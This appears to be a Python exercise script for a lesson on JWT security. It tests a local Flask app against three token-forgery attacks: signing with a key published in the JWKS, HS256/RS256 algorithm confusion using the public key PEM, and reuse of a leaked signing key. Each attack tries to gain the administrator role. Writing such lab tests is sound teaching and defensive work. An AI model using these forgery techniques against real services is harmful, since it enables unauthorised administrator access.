"""Attacks of lesson 10, tried on app.py."""

import hmac
import json
from base64 import urlsafe_b64decode, urlsafe_b64encode

import app as service
import jwt
from app import KEYS, app
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

client = app.test_client()
token = client.post("/login", json={"username": "ada", "password": "analytical engine"}).json["token"]
ADMIN = {**jwt.decode(token, options={"verify_signature": False}), "role": "admin"}


def forge_with_published_key():
    """Be another service that verifies tokens. Take its key from the JWKS, and sign with it."""
    for jwk in client.get("/.well-known/jwks.json").json["keys"]:
        if "k" in jwk and is_admin(jwt.encode(ADMIN, urlsafe_b64decode(jwk["k"]), algorithm="HS256")):
            return True
    return False


def sign_with_public_key():
    """Use the key that verifies as the secret of HS256, for each key of the service."""
    return any(is_admin(sign_hs256(kid, key["public"])) for kid, key in KEYS.items())


def use_leaked_key():
    """Copy the key that signs from a backup. The service notices, rotates, and revokes the key if it can."""
    kid, leaked = [*KEYS.items()][-1]
    forged = jwt.encode(ADMIN, leaked["private"], algorithm=leaked["alg"], headers={"kid": kid})
    service.rotate()
    if hasattr(service, "revoke"):
        service.revoke(kid)
    return is_admin(forged)


def sign_hs256(kid, key):
    """Return a token for an administrator. A public key that is no secret is used as the text of its PEM file."""
    secret = key if isinstance(key, bytes) else key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    text = f"{encode(json.dumps({'alg': 'HS256', 'kid': kid}).encode())}.{encode(json.dumps(ADMIN).encode())}"
    return f"{text}.{encode(hmac.digest(secret, text.encode(), 'sha256'))}"


def encode(data):
    """Return bytes in base64url without padding."""
    return urlsafe_b64encode(data).decode().rstrip("=")


def is_admin(token):
    """Return whether the service takes the owner of a token for an administrator."""
    response = client.get("/me", headers={"Authorization": f"Bearer {token}"})
    return response.status_code == 200 and response.json["role"] == "admin"


for attack in (forge_with_published_key, sign_with_public_key, use_leaked_key):
    print(f"{attack.__name__}: {'succeeds' if attack() else 'fails'}")
